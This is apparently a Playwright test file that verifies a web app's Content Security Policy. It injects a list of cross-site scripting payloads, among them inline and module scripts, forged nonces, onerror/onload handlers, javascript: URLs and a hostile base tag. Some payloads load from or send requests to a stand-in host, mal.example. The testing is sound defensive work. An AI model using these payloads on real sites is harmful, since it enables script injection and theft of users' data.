import type { Browser } from 'playwright';
import { beforeAll, expect, test } from 'vitest';
import { pageAs } from '#tests/support/consent.ts';
import { type Company, makeCompany } from '#tests/support/factory.ts';
import { openBrowser, openWeb, type Web } from '#tests/support/panel.ts';

// Suppose that a fault let a stranger write into a page: what they wrote is put into the HTML as it comes, under the headers it came
// with, and a real browser is to run none of it. That it refuses nothing of the product's own: accessibility.test.ts, on every screen.

let web: Web;
let browser: Browser;
let company: Company;

beforeAll(async () => {
  company = await makeCompany();
  [web, browser] = await Promise.all([openWeb(), openBrowser()]);
});
const ELSEWHERE = 'https://mal.example';
const says = (what: string) => `top.ran.push('${what}')`;

const INJECTED = `
  <script>${says('script')}</script>
  <script nonce="">${says('empty nonce')}</script>
  <script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${says('wrong nonce')}</script>
  <script src="/injected.js"></script>
  <script src="${ELSEWHERE}/injected.js"></script>
  <script type="module">${says('module')}</script>
  <img src="/nada.png" onerror="${says('onerror')}">
  <svg onload="${says('onload')}"></svg>
  <iframe srcdoc="<script>${says('frame')}</script>"></iframe>
  <iframe src="javascript:${says('javascript: frame')}"></iframe>
  <object data="${ELSEWHERE}/object"></object>
  <img src="${ELSEWHERE}/picture.png">
  <link rel="stylesheet" href="${ELSEWHERE}/style.css">
  <style>:root { --injected: yes }</style>
  <a id="injected-link" href="javascript:${says('javascript:')}" style="position:fixed;top:0;left:0;z-index:9999">x</a>
  <form action="${ELSEWHERE}/form"><button id="injected-form" style="position:fixed;top:0;left:90px;z-index:9999">x</button></form>
  <base href="${ELSEWHERE}/">`;

const ALL = [
  ...['empty nonce', 'frame', 'javascript:', 'javascript: frame', 'module', 'onerror', 'onload', 'script'],
  ...['script of another site', 'script of this site', 'wrong nonce'],
];

/** Opens a page with all of it in its body; what ran, and what reached the other site. */
async function openInjected(path: string, { guarded }: { guarded: boolean }) {
  const page = await pageAs(browser, web, company.admin);
  const reached: string[] = [];
  await page.context().route(`${ELSEWHERE}/**`, (route) => {
    reached.push(new URL(route.request().url()).pathname);
    return route.fulfill({ contentType: 'text/javascript', body: says('script of another site') });
  });
  await page.route('**/injected.js', (route) => {
    if (route.request().url().startsWith(ELSEWHERE)) return route.fallback();
    return route.fulfill({ contentType: 'text/javascript', body: says('script of this site') });
  });
  await page.route(`${web.url}${path}`, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    if (!guarded) delete headers['content-security-policy'];
    const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + INJECTED);
    expect(body).toContain(INJECTED);
    await route.fulfill({ status: response.status(), headers, body });
  });
  await page.addInitScript(() => {
    Object.assign(window, { ran: [] });
  });
  await page.goto(path);
  await page.waitForLoadState('networkidle');
  const press = (id: string) => page.evaluate((name) => document.getElementById(name)?.click(), id);
  await press('injected-link');
  const sent = page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(String, String), `${ELSEWHERE}/fetch`);
  await sent;
  const styled = await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--injected'));
  const ran = await page.evaluate(() => (window as unknown as { ran: string[] }).ran);
  const base = await page.evaluate(() => document.baseURI);
  await press('injected-form');
  await page.waitForTimeout(300);
  await page.context().close();
  return { ran: [...new Set(ran)].sort(), reached: [...new Set(reached)].sort(), styled, base: new URL(base).host };
}

test('without the policy all of it runs: the attack is a real one', async () => {
  const found = await openInjected('/docs', { guarded: false });
  expect(found.ran).toEqual([...ALL].sort());
  // The product's own addresses follow the injected <base> there, too.
  expect(found.reached).toEqual(
    expect.arrayContaining(['/fetch', '/form', '/injected.js', '/object', '/picture.png', '/style.css']),
  );
  expect(found).toMatchObject({ styled: 'yes', base: 'mal.example' });
});

test.each(['/docs', '/nada', '/inicio'])('%s: nothing of it runs, and nothing leaves', async (path) => {
  const found = await openInjected(path, { guarded: true });
  expect(found).toEqual({ ran: [], reached: [], styled: '', base: new URL(web.url).host });
});
